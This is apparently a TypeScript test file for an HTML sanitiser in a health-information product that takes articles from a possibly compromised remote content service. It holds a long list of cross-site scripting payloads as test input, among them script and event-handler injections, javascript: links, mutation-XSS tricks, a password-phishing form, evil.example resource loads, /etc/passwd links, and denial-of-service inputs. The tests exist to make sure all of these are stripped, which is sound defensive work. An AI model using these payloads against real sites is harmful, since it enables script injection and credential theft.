import type { Element, Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { toHtml } from 'hast-util-to-html';
import { visit } from 'unist-util-visit';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { getArticle, listArticles } from '#contract/content/article.ts';
import { getTopic, listTopics } from '#contract/content/topic.ts';
import { remoteSource } from '#server/content/library/library.ts';
import { answered } from '../../support/answered.ts';
import { createTestApp, type TestApp } from '../../support/app.ts';
import { type FaultyHost, startFaultyHost } from '../../support/content/faulty-host.ts';

/**
 * A content service that was taken over: its article and its topic are written to do harm. What of it reaches a page is judged here by a
 * list of its own, not by the sanitiser's.
 */
const ARTICLE = 'demam-pada-anak-yang-dapat-dilakukan-di-rumah';
const TOPIC = 'asma';
/** Of the processor. A parser that such a text defeats takes minutes. */
const ENOUGH_MS = 4_000;

const HARMLESS_TAGS = new Set(
  'p h2 h3 h4 ul ol li dl dt dd blockquote pre hr figure figcaption div section table caption thead tbody tfoot tr th td a b strong i em u s del ins sub sup small abbr q cite mark kbd code br span img'.split(
    ' ',
  ),
);
const HARMLESS_ATTRIBUTES = new Set(
  'id class href rel src srcSet sizes alt width height loading decoding scope colSpan rowSpan start title tabIndex className'.split(
    ' ',
  ),
);
const HARMLESS_ADDRESS = /^(https?:\/\/|mailto:|tel:|\/(?!\/)|#)/;

const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type="application/ld+json">{"a":"</script><script>alert(1)</script>"}</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/wp-content/uploads/a.webp" onload="alert(1)" style="position:fixed;inset:0">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif" srcset="//evil.example/a.gif 1w, https://evil.example/b.gif 2w">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<picture><source srcset="https://evil.example/a.webp"><img src=x></picture>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>Masuk</button></form>',
  '<button formaction="javascript:alert(1)">x</button><select autofocus onfocus=alert(1)></select>',
  '<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" java\tscript:alert(1)">a</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">a</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="//evil.example" target="_blank" ping="https://evil.example">a</a>',
  '<a href="file:///etc/passwd">a</a><a href="blob:https://x/1">a</a>',
  '<div onclick=alert(1) onmouseover="alert(1)" id="root" class="modal" style="background:url(javascript:alert(1))">x</div>',
  '<p id="main" name="cookie">x</p><a id="defaultView"><a id="defaultView" name="x">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<video src="https://evil.example/a.mp4" autoplay><audio src=x onerror=alert(1)></audio></video>',
  '<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>',
  '<dialog open>Sesi berakhir, masuk lagi</dialog><portal src="https://evil.example"></portal>',
  '<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]><?php system("id"); ?><%= 7*7 %>',
  '<x-element onanimationstart=alert(1)>x</x-element><p is="x-element">x</p>',
  '<h2 id="x" onclick=alert(1)>Judul <script>alert(1)</script><img src=x onerror=alert(1)></h2>',
  '<table background="https://evil.example/a.gif"><tr><td background=x onclick=alert(1)>x</td></tr></table>',
  '</div></main></body></html><script>alert(1)</script>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<img/src=x/onerror=alert(1)//',
  '<a href="https://example.org/?a=1&amp;b=2">keluar</a>',
];

let app: TestApp;
let host: FaultyHost;

beforeAll(async () => {
  host = await startFaultyHost();
  app = await createTestApp({ content: remoteSource(host.address) });
});
afterAll(async () => {
  await app.close();
  await host.stop();
});

/** Makes the service answer this, changed an hour later than before; returns what the product makes of it. */
async function told(twist: Readonly<Record<string, unknown>>) {
  await host.behave('good', { twists: { [ARTICLE]: twist, [TOPIC]: twist } });
  const fresh = await createTestApp({ content: remoteSource(host.address) });
  try {
    return await vi.waitFor(
      async () => {
        const { article } = await answered(fresh.call(getArticle, { params: { slug: ARTICLE } }));
        const { topic } = await answered(fresh.call(getTopic, { params: { slug: TOPIC } }));
        return { article, topic };
      },
      { timeout: 15_000, interval: 200 },
    );
  } finally {
    await fresh.close();
  }
}

function harmIn(html: string): string[] {
  const tree: Root = fromHtml(html, { fragment: true });
  const harm: string[] = [];
  visit(tree, (node) => {
    if (node.type === 'comment' || node.type === 'doctype') harm.push(node.type);
    if (node.type !== 'element') return;
    if (!HARMLESS_TAGS.has(node.tagName)) harm.push(`<${node.tagName}>`);
    harm.push(...harmOf(node));
  });
  return harm;
}

function harmOf({ tagName, properties }: Element): string[] {
  return Object.entries(properties).flatMap(([name, value]) => {
    const text = String(value);
    if (!HARMLESS_ATTRIBUTES.has(name)) return [`${tagName} ${name}`];
    if ((name === 'href' || name === 'src') && !HARMLESS_ADDRESS.test(text)) return [`${tagName} ${name}=${text}`];
    if ((name === 'src' || name === 'srcSet') && /evil/.test(text)) return [`${tagName} ${name}=${text}`];
    // Any other id or name could be mistaken for the product's own; anchors of headings and the frame of a wide table are made here.
    if (name === 'id' && tagName !== 'h2') return [`${tagName} id=${text}`];
    if (name === 'className' && text !== 'tabel') return [`${tagName} class=${text}`];
    return [];
  });
}

test('[ERR-07] nothing that acts, imitates the product or comes from elsewhere stays in the HTML', async () => {
  const rendered = PAYLOADS.map((payload) => `<p>sebelum</p>${payload}<p>sesudah</p>`).join('\n');
  const { article, topic } = await told({ content: { rendered, protected: false } });
  for (const { html } of [article, topic]) {
    expect(harmIn(html)).toEqual([]);
    expect(html).toContain('sebelum');
    // Parsed once more it is the same: it hides nothing that only a second parser sees.
    expect(toHtml(fromHtml(html, { fragment: true }))).toBe(html);
  }
});

test('[ERR-07] each harmful piece alone is removed too, and the text around it stays', async () => {
  const { cleanHtml } = await import('#server/content/library/html.ts');
  const sites = { content: host.address, product: 'http://localhost:3000' };
  for (const payload of PAYLOADS) {
    const { html } = cleanHtml(`<p>sebelum</p>\n${payload}`, sites);
    expect(harmIn(html), payload).toEqual([]);
    expect(toHtml(fromHtml(html, { fragment: true })), payload).toBe(html);
    expect(html, payload).toContain('<p>sebelum</p>');
  }
});

test('links to elsewhere send no referrer; links between texts of the service lead to pages of the product', async () => {
  const links = [
    '<a href="https://example.org/?a=1&amp;b=2" target="_blank" onclick="x()">keluar</a>',
    `<a href="${host.address}/2026/10/asma/">asma</a>`,
    '<a href="/category/bpjs/">rubrik</a>',
    '<a href="#bagian">turun</a>',
  ];
  const { article } = await told({ content: { rendered: links.join('\n'), protected: false } });
  expect(article.html.split('\n')).toEqual([
    '<a href="https://example.org/?a=1&#x26;b=2" rel="noopener noreferrer nofollow">keluar</a>',
    '<a href="/blog/asma">asma</a>',
    '<a href="/blog/category/bpjs">rubrik</a>',
    '<a href="#bagian">turun</a>',
  ]);
});

test.for([
  ['Demam &amp; batuk', 'Demam & batuk'],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', '<script>alert(1)</script>'],
  ['&amp;lt;b&amp;gt;', '&lt;b&gt;'],
  ['<b>Demam</b> <i onclick=alert(1)>tinggi</i>', 'Demam tinggi'],
  ['Demam<script>alert(1)</script>', 'Demam'],
  ['3 < 4 & 5 > 2', '3 < 4 & 5 > 2'],
  ['Demam&#8217;s &#8220;kutip&#8221; &#x1F912;', 'Demam’s “kutip” 🤒'],
  ['&nbsp; Demam&#10;&#13; tinggi &nbsp;', 'Demam tinggi'],
  ['<!-- a -->Demam<![CDATA[x]]>', 'Demam'],
])('a title %s is the text %s', async ([rendered, text]) => {
  const { article, topic } = await told({ title: { rendered } });
  expect([article.title, topic.title]).toEqual([text, text]);
});

test('entities that are unknown, or stand for forbidden characters, do no harm', async () => {
  const { article } = await told({ title: { rendered: 'A&#0;B&#x110000;C&#xD800;D&tidakada;E&#9999999999;F\u0000G' } });
  expect(article.title).toMatch(/^A.*B.*C.*D&tidakada;E.*F.*G$/u);
  expect(article.title).not.toMatch(/\u0000|\p{Surrogate}/u);
});

test('summaries and alternative texts are plain text too', async () => {
  const { article } = await told({
    excerpt: { rendered: '<p>Ringkas <img src=x onerror=alert(1)>&amp; jelas [&hellip;]</p>' },
  });
  expect(article.summary).toBe('Ringkas & jelas…');
  await host.behave('good', {
    twists: { '*': { alt_text: '"><script>alert(1)</script>', source_url: 'javascript:alert(1)' } },
  });
  const fresh = await createTestApp({ content: remoteSource(host.address) });
  const { articles } = await answered(fresh.call(listArticles));
  expect(articles.map(({ image }) => image)).toEqual([null, null]);
  await fresh.close();
});

test.for([
  ['tags nested without end', '<div>'.repeat(100_000)],
  ['lists nested without end', '<ul><li>'.repeat(50_000)],
  ['emphasis nested without end', '<b><i><a href=x>'.repeat(20_000)],
  ['tables nested without end', '<table><tr><td>'.repeat(20_000)],
  ['a million attributes', `<p ${'a=b '.repeat(250_000)}>x</p>`],
  ['a million angle brackets', '<'.repeat(1_000_000)],
  ['a million ampersands', '&'.repeat(1_000_000)],
  ['a comment without end', `<!--${'-'.repeat(1_000_000)}`],
])('[ERR-07] %s are handled, or the text is unavailable, and other texts stay', async ([, rendered]) => {
  await host.behave('good', { twists: { [TOPIC]: { content: { rendered, protected: false } } } });
  const fresh = await createTestApp({ content: remoteSource(host.address) });
  await answered(fresh.call(listTopics));
  const before = process.cpuUsage();
  const result = await fresh.call(getTopic, { params: { slug: TOPIC } });
  const { user, system } = process.cpuUsage(before);
  expect((user + system) / 1_000, 'milliseconds of the processor').toBeLessThan(ENOUGH_MS);
  expect(result.ok ? harmIn(result.data.topic.html) : result.error.code).toEqual(
    result.ok ? [] : 'CONTENT_UNAVAILABLE',
  );
  const other = await answered(fresh.call(getTopic, { params: { slug: 'ibuprofen' } }));
  expect(other.topic.title).toBe('Ibuprofen');
  await fresh.close();
});

test('malformed slugs lead nowhere', async () => {
  for (const slug of ['../../login', 'a/b', '"><script>', 'javascript:alert(1)', '']) {
    await host.behave('good', { twists: { [ARTICLE]: { slug }, [TOPIC]: { slug } } });
    const fresh = await createTestApp({ content: remoteSource(host.address) });
    const { articles } = await answered(fresh.call(listArticles, { query: { page: '50' } }));
    const { topics } = await answered(fresh.call(listTopics));
    expect(topics.length).toBeGreaterThan(100);
    for (const each of [...articles, ...topics]) expect(each.slug).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
    await fresh.close();
  }
  expect(app.logged.filter(({ level }) => level === 'error')).toEqual([]);
});
